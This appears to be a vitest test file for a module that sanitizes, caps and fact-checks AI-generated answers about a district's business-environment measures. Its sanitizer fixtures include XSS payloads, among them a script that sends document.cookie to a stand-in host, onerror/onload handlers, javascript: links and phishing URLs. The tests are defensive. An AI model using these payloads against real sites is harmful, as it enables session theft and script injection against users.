import { describe, expect, it } from "vitest";
import {
  capText,
  type CheckedClause,
  createStreamGate,
  finalizeAnswer,
  reconcile,
  sanitizeText,
  stableLength,
  verifyAgainstClauses,
} from "../../src/answer/check.ts";
import type { Answer } from "../../src/answer/schema.ts";

const none = { linkOrigins: [] };
const gov = { linkOrigins: ["https://www.anting.gov.cn/"] };

describe("sanitizeText", () => {
  it.each([
    ["<script>", "区科委负责。<script>fetch('//x.example/'+document.cookie)</script>", "区科委负责。"],
    ["an unclosed <script>", "区科委负责。<script>alert(1)", "区科委负责。"],
    ["<img onerror>", '区科委<img src=x onerror="alert(1)">负责。', "区科委负责。"],
    ["<a href>", '见<a href="https://evil.example/">第2条</a>。', "见第2条。"],
    ["<style> and <iframe>", "A<style>body{display:none}</style>B<iframe src=//evil.example></iframe>C", "ABC"],
    ["an HTML comment", "A<!-- <img src=x onerror=alert(1)> -->B", "AB"],
    ["an svg with onload", '<svg onload="alert(1)"><circle/></svg>区科委', "区科委"],
    ["an autolink to javascript:", "点此<javascript:alert(1)>", "点此"],
    ["a half tag", "区科委负责 <img src=x onerror=alert(1)", "区科委负责 ＜img src=x onerror=alert(1)"],
    ["bidi overrides and control characters", "区科委\u202e负责\u0000。", "区科委负责。"],
  ])("removes %s", (_what, input, expected) => {
    expect(sanitizeText(input, none)).toBe(expected);
  });

  it("keeps text that only looks like markup to no renderer", () => {
    expect(sanitizeText("审批时限<5天，a < b，95%以上。", none)).toBe("审批时限<5天，a < b，95%以上。");
  });

  it("removes images and tracking pixels to origins not on the allow list", () => {
    const pixel = "区科委负责。![](https://track.example/p.gif?u=1) ![logo](//cdn.example/a.png)";
    expect(sanitizeText(pixel, none)).toBe("区科委负责。");
    expect(sanitizeText("![盖章](https://www.anting.gov.cn/seal.png)", gov)).toBe("![盖章](https://www.anting.gov.cn/seal.png)");
    expect(sanitizeText("![x](data:image/png;base64,AAAA)", gov)).toBe("");
  });

  it("keeps a link's text and drops its target unless the origin is allowed", () => {
    expect(sanitizeText('详见[办事指南](https://evil.example/phish "title")。', none)).toBe("详见办事指南。");
    expect(sanitizeText("[点我](javascript:alert(1))", gov)).toBe("点我");
    expect(sanitizeText("详见[办事指南](https://www.anting.gov.cn/guide)。", gov)).toBe(
      "详见[办事指南](https://www.anting.gov.cn/guide)。",
    );
    // Same host, other scheme or port: another origin.
    expect(sanitizeText("[a](http://www.anting.gov.cn/) [b](https://www.anting.gov.cn:8443/)", gov)).toBe("a b");
  });

  it("removes bare URLs and reference definitions to other origins, keeps those quoted from the source", () => {
    const text = "登录 https://evil.example/login 或 www.evil.example 办理。\n[1]: https://evil.example/x\n";
    expect(sanitizeText(text, none)).toBe("登录  或  办理。");
    expect(
      sanitizeText("登录 https://zwdt.example.gov.cn/ 办理", { linkOrigins: [], trusted: "通过 https://zwdt.example.gov.cn/ 申请" }),
    ).toBe("登录 https://zwdt.example.gov.cn/ 办理");
    expect(sanitizeText("<https://www.anting.gov.cn/a>", gov)).toBe("https://www.anting.gov.cn/a");
  });

  it("is idempotent", () => {
    const inputs = ["<b>区科委</b> [x](https://evil.example) ![](https://t.example/p.gif) <scr<script>ipt>alert(1)</script>"];
    for (const input of inputs) {
      const once = sanitizeText(input, none);
      expect(sanitizeText(once, none)).toBe(once);
      expect(once).not.toMatch(/<[a-z/!]/i);
    }
  });
});

describe("capText", () => {
  it("leaves a short answer alone", () => {
    expect(capText("区科委负责。", 100, "zh")).toBe("区科委负责。");
  });

  it("cuts a long answer at a sentence end, with a note, within the cap", () => {
    const long = "电子印章在税务、银行等领域互认。".repeat(500);
    const capped = capText(long, 1000, "zh");
    expect(capped.length).toBeLessThanOrEqual(1000);
    expect(capped.length).toBeGreaterThan(600);
    expect(capped).toMatch(/互认。……（回答过长/);
    expect(capText("Seals are accepted. ".repeat(300), 500, "en")).toMatch(/accepted\.… \(answer shortened/);
  });

  it("never splits a surrogate pair", () => {
    const capped = capText("😀".repeat(1000), 301, "en");
    expect(capped.length).toBeLessThanOrEqual(301);
    expect(capped).not.toMatch(/[\ud800-\udbff](?![\udc00-\udfff])/);
  });
});

const CLAUSE_2: CheckedClause = {
  text: "建设区电子印章公共服务平台，全区95%以上政府机关使用电子印章。",
  measure: 2,
  sectionPath: ["一、提升政务服务", "（一）推广电子印章"],
  units: [{ name: "区科委", nameEn: "District Science and Technology Commission", role: "responsible" }],
};
const CLAUSE_3: CheckedClause = {
  text: "推行企业简易注销，注销办理时间压缩至5天以内。",
  measure: 3,
  sectionPath: ["一、提升政务服务", "（二）便利企业注销"],
  units: [{ name: "区市场监管局", nameEn: "District Administration for Market Regulation", role: "responsible" }],
  deadline: { text: "2024年6月底前", date: "2024-06-30" },
};
const source = { clauses: [CLAUSE_2, CLAUSE_3], planTitles: ["安亭区优化营商环境若干措施"] };

describe("verifyAgainstClauses", () => {
  it.each([
    "根据《安亭区优化营商环境若干措施》第2条，电子印章公共服务平台由区科委负责，全区95%以上政府机关使用电子印章。",
    "由区科学技术委员会负责（第2条）；企业注销5天以内办完（第三条，区市场监督管理局），2024年6月底前落实。",
    "第2、3条分别规定了电子印章和注销，见（一）推广电子印章。注销压缩到五天以内。",
    "Under measure 2, the District Science and Technology Commission (区科委) runs the platform; 95% of agencies use e-seals.",
    "Measures 2 and 3 apply. For more, call the 12345 hotline.",
    "The District Sci-Tech Commission (区科学技术委员会) builds the platform.",
    "第一部分提升政务服务：区科委负责。",
    "区科委会同相关部门推进，区内企业、市场主体均可使用，全区各部门都将推广。",
  ])("accepts %j", (answer) => {
    expect(verifyAgainstClauses(answer, source)).toEqual({ ok: true });
  });

  it.each([
    ["根据第999条，由区外星局负责。", "llm_unsupported_measure", "第999条"],
    ["根据第二条和第九条办理。", "llm_unsupported_measure", "第九条"],
    ["根据第2、9条办理。", "llm_unsupported_measure", "第2、9条"],
    ["See measure 17.", "llm_unsupported_measure", "measure 17"],
    ["由区外星局负责。", "llm_unsupported_unit", "区外星局"],
    ["由区税务局负责（第2条）。", "llm_unsupported_unit", "区税务局"],
    ["The District Finance Bureau (区财政局) is responsible.", "llm_unsupported_unit", "区财政局"],
    ["The District Finance Bureau is responsible.", "llm_unsupported_unit", "District Finance Bureau"],
    ["The District Alien Affairs Bureau runs it.", "llm_unsupported_unit", "District Alien Affairs Bureau"],
    ["The District Alien Affairs Bureau (区外星局) runs it.", "llm_unsupported_unit", "区外星局"],
    ["全区99%以上政府机关使用电子印章（第2条，区科委）。", "llm_unsupported_figure", "99"],
    ["注销压缩至3天（第3条）。", "llm_unsupported_figure", "3"],
    ["注销压缩至三天（第3条）。", "llm_unsupported_figure", "3"],
    ["见（五）数字政府。", "llm_unsupported_section", "（五）"],
    ["见第四部分。", "llm_unsupported_section", "第四部分"],
    ["根据《外星人优待条例》，区科委负责。", "llm_unsupported_title", "《外星人优待条例》"],
  ])("rejects %j", (answer, reason, found) => {
    expect(verifyAgainstClauses(answer, source)).toEqual({ ok: false, reason, found: found.normalize("NFKC") });
  });

  it("compares in Simplified script, and accepts the number of cited clauses as a figure", () => {
    expect(verifyAgainstClauses("根據《安亭區優化營商環境若干措施》第2條，由區科學技術委員會負責。", source)).toEqual({ ok: true });
    expect(verifyAgainstClauses("由區外星局負責。", source)).toMatchObject({ ok: false, reason: "llm_unsupported_unit" });
    expect(verifyAgainstClauses("上述2项措施分别由区科委和区市场监管局负责。", source)).toEqual({ ok: true });
    expect(verifyAgainstClauses("上述7项措施由区科委负责。", source)).toMatchObject({ ok: false, found: "7" });
  });

  it("reads full-width digits and percent signs as the figures they are", () => {
    expect(verifyAgainstClauses("全区９５％以上（第２条）。", source)).toEqual({ ok: true });
    expect(verifyAgainstClauses("全区９９％以上。", source)).toMatchObject({ ok: false, reason: "llm_unsupported_figure" });
  });
});

describe("finalizeAnswer", () => {
  const answer = (text: string): Answer => ({ answer: text, status: "answered", lang: "zh", mode: "extractive", citations: [] });
  it("sanitizes and caps any answer, whoever wrote it", () => {
    const out = finalizeAnswer(answer(`<b>区科委</b>负责。${"很长的回答。".repeat(2000)}`), { maxChars: 3000, linkOrigins: [] });
    expect(out.answer.startsWith("区科委负责。")).toBe(true);
    expect(out.answer.length).toBeLessThanOrEqual(3000);
  });
  it("returns the same object when nothing changes", () => {
    const a = answer("区科委负责。");
    expect(finalizeAnswer(a, { maxChars: 3000, linkOrigins: [] })).toBe(a);
  });
});

describe("streaming", () => {
  it("holds back text that may still become markup or a URL", () => {
    expect(stableLength("区科委负责。<scr")).toBe("区科委负责。".length);
    expect(stableLength("见[指南](https://ev")).toBe(1);
    expect(stableLength("区科委<script>x")).toBe(3);
    expect(stableLength("see www.ev")).toBe(4);
    expect(stableLength("区科委负责。")).toBe(6);
  });

  it("emits only sanitized text that extends what was sent, and never past the cap", () => {
    const gate = createStreamGate((s) => sanitizeText(s, none), 20);
    const raw = "区科委负责。<img src=x onerror=alert(1)>见https://evil.example/x 第2条。再说很多很多很多很多很多";
    const deltas: string[] = [];
    for (let i = 1; i <= raw.length; i++) {
      const d = gate.push(raw.slice(0, i));
      if (d) deltas.push(d);
    }
    const shown = deltas.join("");
    expect(shown).not.toContain("<");
    expect(shown).not.toContain("evil");
    expect(shown.length).toBeLessThanOrEqual(20);
    expect(shown).toBe(gate.sent());
    expect(shown.startsWith("区科委负责。见")).toBe(true);
  });

  it("appends when the final text extends what was shown, replaces otherwise", () => {
    expect(reconcile("区科委", "区科委负责。")).toEqual({ kind: "append", text: "负责。" });
    expect(reconcile("", "区科委负责。")).toEqual({ kind: "append", text: "区科委负责。" });
    expect(reconcile("由区外星局", "区科委负责。")).toEqual({ kind: "replace", text: "区科委负责。" });
  });
});
